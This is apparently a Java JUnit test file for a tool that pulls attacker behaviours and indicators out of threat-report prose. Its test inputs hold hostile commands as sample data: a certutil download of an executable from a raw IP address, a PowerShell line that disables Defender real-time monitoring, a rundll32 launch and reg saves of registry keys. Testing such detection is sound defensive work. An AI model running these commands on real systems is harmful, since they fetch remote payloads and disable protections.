package dev.harrier.evidence;

import static org.assertj.core.api.Assertions.assertThat;

import dev.harrier.article.Article;
import dev.harrier.article.ArticleReader;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class BehaviourTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "Then winword.exe spawned cmd.exe at once.",
                "Then WINWORD.EXE launches cmd.exe there.",
                "cmd.exe was spawned by winword.exe then",
                "The tree is winword.exe -> cmd.exe here.",
                "There cmd.exe is a child process of winword.exe always."
            })
    void parentAndChild(String text) {
        assertThat(Extraction.of(text).behaviours(Behaviour.ParentChild.class))
                .singleElement()
                .matches(p -> p.parent().equals("winword.exe") && p.child().equals("cmd.exe"));
    }

    @Test
    void commandLineFromCode() {
        Extraction read = Extraction.of(
                "It ran:\n\n```\nC:\\> certutil -urlcache -split -f http://45.77.1.9/a.exe C:\\Users\\bob\\a.exe\n```\n");
        assertThat(read.behaviours(Behaviour.CommandLine.class)).singleElement().satisfies(c -> {
            assertThat(c.executable()).isEqualTo("certutil.exe");
            assertThat(c.commandLine()).startsWith("certutil -urlcache");
            assertThat(c.fragments()).containsExactly("-urlcache -split -f");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "reg save HKLM\\SOFTWARE\\Hbx C:\\x.hiv",
                "reg.exe query \"HKLM\\SOFTWARE\\Hbx\" /s",
                "reg export HKLM\\SOFTWARE\\Hbx x"
            })
    void aKeyThatIsReadIsNotSet(String command) {
        Extraction read = Extraction.of("The malware ran:\n\n```\n" + command + "\n```\n");
        assertThat(read.behaviours(Behaviour.RegistryValue.class)).isEmpty();
        assertThat(read.behaviours(Behaviour.CommandLine.class)).isNotEmpty();
    }

    @Test
    void aCommandOfPowerShellAloneIsOneOfItsProcess() {
        Extraction read =
                Extraction.of("The malware ran:\n\n```\nSet-MpPreference -DisableRealtimeMonitoring $true\n```\n");
        assertThat(read.behaviours(Behaviour.CommandLine.class)).singleElement().satisfies(c -> {
            assertThat(c.executable()).isEqualTo("powershell.exe");
            assertThat(c.fragments()).isNotEmpty();
        });
    }

    @Test
    void commandLineFromProse() {
        Extraction read = Extraction.of("The actor ran `rundll32.exe C:\\ProgramData\\x.dll,Start` and left.");
        assertThat(read.behaviours(Behaviour.CommandLine.class))
                .singleElement()
                .satisfies(c -> assertThat(c.fragments()).containsExactly("C:\\ProgramData\\x.dll,Start"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "We wrote it in node.js and ASP.NET with next.js.",
                "PowerShell is a shell.",
                "Use `powershell` for it.",
                "net income rose by 5-10% in May: see the report",
                "At least 5 of them ran."
            })
    void proseIsNoProcess(String text) {
        assertThat(Extraction.of(text).evidence().behaviours()).isEmpty();
    }

    @Test
    void namedThings() {
        Extraction read =
                Extraction.of("It creates a scheduled task named \"Update Check 7\", a service called `WinHelpSvc`, "
                        + "the mutex \"Global\\abc123\" and talks over \\\\.\\pipe\\msagent_12.");
        assertThat(read.behaviours(Behaviour.ScheduledTask.class))
                .extracting(Behaviour.ScheduledTask::name)
                .containsExactly("Update Check 7");
        assertThat(read.behaviours(Behaviour.Service.class))
                .extracting(Behaviour.Service::name)
                .containsExactly("WinHelpSvc");
        assertThat(read.behaviours(Behaviour.NamedPipe.class))
                .extracting(Behaviour.NamedPipe::name)
                .containsExactly("msagent_12");
        assertThat(read.values(IndicatorType.MUTEX)).containsExactly("Global\\abc123");
    }

    @Test
    void namesNeedTheirWordsAndTheirContext() {
        List<ThreatName> names = List.of(
                new ThreatName(NamedThreat.Kind.ACTOR, "APT29", "G0016", List.of("Cozy Bear")),
                new ThreatName(NamedThreat.Kind.MALWARE, "Play", "", List.of()),
                new ThreatName(NamedThreat.Kind.TOOL, "Net", "S0039", List.of()));
        Article article = ArticleReader.readText(
                "x", "Cozy bear came. Children Play there. Net income fell; net.exe ran. The Play ransomware hit.");
        Evidence evidence = new EvidenceExtractor(Allowlist.none(), names).extract(article);
        assertThat(evidence.threats()).extracting(NamedThreat::name).containsExactly("APT29", "Play");
        assertThat(evidence.threats().get(1).quote().start()).isGreaterThan(60);
    }
}
